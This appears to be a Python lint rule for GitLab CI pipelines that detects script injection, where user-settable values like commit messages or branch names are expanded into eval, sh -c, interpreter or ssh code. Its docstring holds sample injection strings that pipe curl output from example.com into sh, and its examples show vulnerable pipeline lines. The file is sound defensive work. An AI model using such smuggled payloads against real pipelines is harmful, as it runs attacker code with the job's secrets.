from collections.abc import Iterator

from aurora_devops import Finding, Script, bad, good, policy
from aurora_devops.core.lazy import regex
from aurora_devops.formats.shell import Command, Word

# Variables that the author of a merge request or of a branch chooses.
_CHOSEN = regex(
    r"\$\{?(?P<name>CI_COMMIT_(?:MESSAGE|TITLE|DESCRIPTION|REF_NAME|BRANCH|TAG|TAG_MESSAGE|AUTHOR)"
    r"|CI_MERGE_REQUEST_(?:TITLE|DESCRIPTION|SOURCE_BRANCH_NAME|LABELS|MILESTONE)"
    r"|CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME|CI_BUILD_REF_NAME|GITLAB_USER_NAME|TRIGGER_PAYLOAD)\b"
)
_SHELLS = frozenset({"sh", "bash", "dash", "ash", "zsh", "ksh"})
_INTERPRETERS = {
    **dict.fromkeys(_SHELLS, "-c"),
    **dict.fromkeys(("python", "python2", "python3"), "-c"),
    **dict.fromkeys(("perl", "ruby", "node"), "-e"),
    "php": "-r",
    "powershell": "-Command",
    "pwsh": "-Command",
}


@policy(
    "GLC011",
    severity="error",
    category="security",
    examples=[
        bad('notify:\n  script:\n    - eval "echo «$CI_COMMIT_MESSAGE»"\n'),
        bad('notify:\n  script:\n    - bash -c "./notify.sh «$CI_MERGE_REQUEST_TITLE»"\n'),
        bad('deploy:\n  script:\n    - ssh web@example.com "./deploy.sh «${CI_COMMIT_REF_NAME}»"\n'),
        good(
            'notify:\n  script:\n    - ./notify.sh "$CI_COMMIT_MESSAGE"\n',
            because="the shell passes the message as one argument and does not run it",
        ),
        good(
            "notify:\n  script:\n    - bash -c './notify.sh \"$CI_COMMIT_TITLE\"'\n",
            because="the inner shell reads the variable itself",
        ),
        good(
            'deploy:\n  script:\n    - ssh web@example.com "./deploy.sh $CI_COMMIT_REF_SLUG"\n',
            because="the slug contains only letters, digits and '-'",
        ),
    ],
)
def script_injection(script: Script) -> Iterator[Finding]:
    """Text that anyone can set is expanded into code before it runs.

    A branch called `x$(curl${IFS}example.com)` or a title such as `"; curl https://example.com/x | sh; "` runs commands
    with the secrets of the job, where `eval`, `sh -c`, `python -c` or `ssh` reads it as code.
    Pass the text as an argument in quotes, or use `CI_COMMIT_REF_SLUG` and `CI_COMMIT_SHA`.

    https://docs.gitlab.com/ci/pipelines/pipeline_security/
    """
    if "CI_" not in script.text and "GITLAB_" not in script.text and "TRIGGER_" not in script.text:
        return
    tree = script.parsed
    for command in tree.commands if tree is not None else ():
        program = command.unwrapped
        for word in _code(program):
            for expansion in word.expansions:
                match = _CHOSEN.match(expansion.raw)
                if match is not None and expansion.end > expansion.start:
                    message = f"'{match['name']}' is set by anyone and becomes code of {program.name}"
                    yield Finding(at=script.place(expansion.start, expansion.end), message=message)


def _code(command: Command) -> tuple[Word, ...]:
    """The words that a command reads as code."""
    if command.name == "eval":
        return command.arguments
    if command.name == "ssh":
        return command.operands(_SSH_OPTIONS)[1:]
    flag = _INTERPRETERS.get(command.name)
    if flag is None:
        return ()
    code = command.option(flag)
    return () if code is None else (code,)


_SSH_OPTIONS = tuple(f"-{letter}" for letter in "BbcDEeFIiJLlmOopQRSWw")
